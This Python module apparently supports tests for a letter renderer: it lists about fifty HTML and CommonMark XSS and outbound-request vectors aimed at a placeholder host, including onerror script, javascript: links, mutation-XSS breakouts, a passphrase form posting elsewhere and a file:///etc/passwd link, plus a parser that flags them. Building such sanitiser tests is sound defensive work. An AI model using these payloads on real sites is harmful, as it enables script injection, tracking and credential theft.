"""Ways in which HTML or CommonMark of a letter tries to reach out, to run, or to look like the desk (A29-A31).

`reaches_out` reads markup as a browser does and says what in it could ask another host, run, or break out of its place.
"""

from __future__ import annotations

from collections.abc import Iterator
from html.parser import HTMLParser

OUT = "https://elsewhere.invalid"

VECTORS = (
    f"<img src={OUT}/1>",
    "<img src=//elsewhere.invalid/1>",
    "<img src=\\\\elsewhere.invalid\\1>",
    f"<img src=' {OUT}/1'>",
    f"<img src='cid:{OUT}'>",
    f"<img srcset='{OUT}/1 1x, {OUT}/2 2x'>",
    f"<img lowsrc={OUT}/1 dynsrc={OUT}/2 longdesc={OUT}/3 usemap={OUT}/4>",
    f"<img src=x onerror=\"fetch('{OUT}')\">",
    f"<image src={OUT}/1>",
    f"<picture><source srcset={OUT}/1><img src=cid:a></picture>",
    f"<input type=image src={OUT}/1>",
    f"<body background={OUT}/1 onload=alert(1)>",
    f"<table background={OUT}/1><tr><td background={OUT}/2>x</table>",
    f"<p style='background:url({OUT}/1)'>x</p>",
    f"<p style=\"background:u\\72l('{OUT}/1')\">x</p>",
    f"<style>@import '{OUT}/1';p{{background:url({OUT}/2)}}</style><p>x</p>",
    f"<style>@font-face{{font-family:x;src:url({OUT}/1)}}</style><p style='font-family:x'>x</p>",
    f"<link rel=stylesheet href={OUT}/1><link rel=prefetch href={OUT}/2><link rel=dns-prefetch href={OUT}>",
    f"<link rel=preload as=image href={OUT}/1><link rel=icon href={OUT}/2><link rel=manifest href={OUT}/3>",
    f"<base href={OUT}/><img src=1><a href=2>x</a>",
    f"<meta http-equiv=refresh content='0;url={OUT}/1'>",
    '<meta http-equiv=Content-Security-Policy content="default-src *">',
    f"<script src={OUT}/1></script><script>fetch('{OUT}')</script>",
    f"<scr<script>ipt>fetch('{OUT}')</scr</script>ipt>",
    f"<svg><image href={OUT}/1 /><use href={OUT}/2#x /><script>1</script></svg>",
    f"<svg><image xlink:href={OUT}/1 /><animate attributeName=href values={OUT}/2 /></svg>",
    f"<svg><foreignObject><iframe src={OUT}/1></iframe></foreignObject></svg>",
    f"<svg onload=fetch('{OUT}')><style>@import '{OUT}/1'</style></svg>",
    f"<math href={OUT}/1><mtext>x</mtext></math>",
    f"<object data={OUT}/1 type=text/html><param name=src value={OUT}/2></object>",
    f"<embed src={OUT}/1><applet code=x archive={OUT}/2></applet>",
    f"<iframe src={OUT}/1 srcdoc='<script>1</script>'></iframe><frameset><frame src={OUT}/2></frameset>",
    f"<video src={OUT}/1 poster={OUT}/2><source src={OUT}/3><track src={OUT}/4></video>",
    f"<audio src={OUT}/1 autoplay></audio><bgsound src={OUT}/2>",
    f"<form action={OUT}/1><input name=passphrase><button formaction={OUT}/2>Unlock</button></form>",
    f"<isindex action={OUT}/1><keygen><select onfocus=1 autofocus><textarea autofocus onfocus=1></textarea>",
    f"<a href={OUT}/1 ping={OUT}/2 target=_top>x</a>",
    "<a href=javascript:alert(1)>x</a><a href='java\tscript:alert(1)'>y</a><a href=' \x01javascript:alert(1)'>z</a>",
    "<a href='data:text/html,<script>1</script>'>x</a><a href=vbscript:1>y</a><a href=file:///etc/passwd>z</a>",
    f"<blockquote cite={OUT}/1>x</blockquote><q cite={OUT}/2>y</q><ins cite={OUT}/3>z</ins><del cite={OUT}/4>w</del>",
    f"<div id=here class=seal style='position:fixed;inset:0' data-key=a hidden contenteditable>{OUT}</div>",
    f"<template><img src={OUT}/1></template><dialog open>x</dialog><marquee onstart=1>y</marquee>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">',
    '<svg></p><style><a id="</style><img src=x onerror=alert(1)>">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    f"<!--[if mso]><img src={OUT}/1><![endif]--><![CDATA[<img src={OUT}/2>]]>",
    f"<xmp><img src={OUT}/1></xmp><plaintext><img src={OUT}/2>",
    f'<object data=\'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg"><image href="{OUT}/1"/></svg>\'>',
    f'<img src=\'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg"><image href="{OUT}/1"/></svg>\'>',
    "<img src='data:image/png;base64,iVBORw0KGgo='>",
)

_MAY_POINT = {("img", "src"), ("a", "href")}
_NEVER = (
    "script style link meta base iframe frame frameset object embed applet form input button textarea select svg math"
    " video audio source track template dialog noscript marquee picture image body html head title"
)


class _Reader(HTMLParser):
    def __init__(self, own: tuple[str, ...]) -> None:
        super().__init__(convert_charrefs=True)
        self.own, self.found = own, list[str]()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in _NEVER.split():
            self.found.append(f"<{tag}>")
        for name, value in attrs:
            if name.startswith("on") or name in ("style", "id", "srcset", "background", "ping", "target"):
                self.found.append(f"{name} of <{tag}>")
            if (tag, name) in _MAY_POINT:
                if not (value or "").startswith(self.own):
                    self.found.append(f"{name}={value} of <{tag}>")
            elif "elsewhere" in (value or "") and name not in ("alt", "title"):
                self.found.append(f"{name}={value} of <{tag}>")

    handle_startendtag = handle_starttag


def reaches_out(markup: str, *own: str) -> list[str]:
    """What in this markup is dangerous; nothing if it is as it should be. `own`: how the addresses begin that pictures
    and links may have."""
    reader = _Reader(own)
    reader.feed(markup)
    reader.close()
    return reader.found


def each() -> Iterator[str]:
    """Every vector alone, and all of them in one."""
    yield from VECTORS
    yield "".join(VECTORS)
